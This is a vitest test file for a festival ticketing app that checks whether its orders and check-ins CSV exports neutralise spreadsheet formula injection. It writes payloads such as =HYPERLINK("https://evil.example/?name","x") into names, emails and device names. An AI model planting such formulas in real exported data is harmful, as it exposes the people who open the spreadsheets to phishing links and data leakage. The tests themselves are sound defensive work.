// Issue 8 item 3: every CSV export neutralises spreadsheet formulas. Each of
// OWASP's trigger characters (= + - @ tab, carriage return) is planted at the
// start of every user-controlled field of every export; no cell of any export
// may then start with one, and each planted value reads back as text ('…).
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { prisma } from "~/utils/db.server";
import { Client, startTestApp, type TestApp } from "../helpers/app";
import { csvRecords, FORMULA_START, parseCsv } from "../helpers/csv";
import {
  addMember,
  buyDoorTicket,
  createDoorDeviceViaApi,
  createUserRow,
  doorFestival,
  signedInAdmin,
  signedInClient,
} from "../helpers/fixtures";

const TRIGGERS = ["=", "+", "-", "@", "\t", "\r"] as const;
const payload = (c: string, what: string) => `${c}HYPERLINK("https://evil.example/?${what}","x")`;
const label = (c: string) => JSON.stringify(c);

let app: TestApp;
let client: Client;
let token: string;
let admin: Client;
let festival: { id: string; typeId: string };
let nonce = 0;

/** A ticket id as written: ids are base64url, and one that starts with "-" is quoted like any text. */
const ticketIdOf = (row: Record<string, string>) => row.ticket_id!.replace(/^'(?=-)/, "");

/** Every cell of every row (header included) must read as text in a spreadsheet. */
function expectNoFormula(csv: string) {
  const rows = parseCsv(csv);
  expect(rows.length).toBeGreaterThan(1);
  for (const [r, row] of rows.entries())
    for (const [c, cell] of row.entries())
      expect(FORMULA_START.test(cell), `row ${r}, column ${c}: ${JSON.stringify(cell)}`).toBe(
        false,
      );
}

beforeAll(async () => {
  app = await startTestApp({ RATE_LIMIT_PER_MINUTE: "0" });
  client = new Client(app.url);
  ({ token, browser: admin } = await signedInAdmin(app.url));
  festival = await doorFestival(client, token);
});
afterAll(() => app.close());

describe("orders.csv", () => {
  it.each(TRIGGERS)("neutralises %j in the buyer's name, email and ticket type name", async (c) => {
    // Made through the real checkout, then the stored values replaced: the
    // writer must hold whatever is in the database (imports, older rules).
    const { typeId } = await doorFestival(client, token);
    const festivalId = (await prisma.ticketType.findUniqueOrThrow({ where: { id: typeId } }))
      .festivalId;
    const ticket = await buyDoorTicket(client, festivalId, typeId, { name: "Buyer" });
    const name = payload(c, "name");
    const email = `${c}buyer@example.test`;
    const typeName = payload(c, "type");
    await prisma.order.update({ where: { id: ticket.orderId }, data: { name, email } });
    await prisma.ticketType.update({
      where: { id: typeId },
      data: { name: JSON.stringify({ en: typeName, ru: typeName }) },
    });
    const res = await admin.get(`/admin/festivals/${festivalId}/orders.csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    expectNoFormula(res.text);
    const [row] = csvRecords(res.text);
    expect(row, label(c)).toMatchObject({ name: `'${name}`, email: `'${email}` });
    expect(row!.tickets).toBe(`1 × ${typeName}`);
    // System-written numbers stay numbers: amounts in major units.
    expect(row!.total).toBe("15.00");
  });
});

describe("check-ins.csv", () => {
  it.each(TRIGGERS)("neutralises %j in the device name", async (c) => {
    const device = await createDoorDeviceViaApi(client, token, festival.id);
    const name = payload(c, "device");
    await prisma.doorDevice.update({ where: { id: device.id }, data: { name } });
    const ticket = await buyDoorTicket(client, festival.id, festival.typeId);
    const scan = await client.api(
      "POST",
      "/api/v1/door/scans",
      { token: ticket.qrToken, nonce: `csv-${++nonce}-${Date.now()}` },
      device.token,
    );
    expect(scan.status).toBe(200);
    const res = await admin.get(`/admin/festivals/${festival.id}/check-ins.csv`);
    expect(res.status).toBe(200);
    expectNoFormula(res.text);
    const rows = csvRecords(res.text).filter((r) => ticketIdOf(r) === ticket.id);
    expect(rows.map((r) => r.device)).toEqual([`'${name}`]);
  });

  it("a door member named like a formula who sets up their own phone exports as text", async () => {
    // The outside test's reproduction: "Use this phone" names the device after its owner.
    const name = '=HYPERLINK("https://evil.example","open me")';
    const member = await createUserRow({ name });
    await addMember(festival.id, member.id, "door");
    const phone = await signedInClient(app.url, member.email);
    const setup = await phone.postForm("/door/setup", { festivalId: festival.id });
    expect(setup.status).toBe(302);
    const deviceToken = /#device=(.+)$/.exec(setup.location ?? "")![1]!;
    const ticket = await buyDoorTicket(client, festival.id, festival.typeId);
    const scan = await client.api(
      "POST",
      "/api/v1/door/scans",
      { token: ticket.qrToken, nonce: `csv-${++nonce}-${Date.now()}` },
      deviceToken,
    );
    expect(scan.status).toBe(200);
    const res = await admin.get(`/admin/festivals/${festival.id}/check-ins.csv`);
    expectNoFormula(res.text);
    const row = csvRecords(res.text).find((r) => ticketIdOf(r) === ticket.id)!;
    expect(row.device!.startsWith(`'${name} (`)).toBe(true);
  });
});
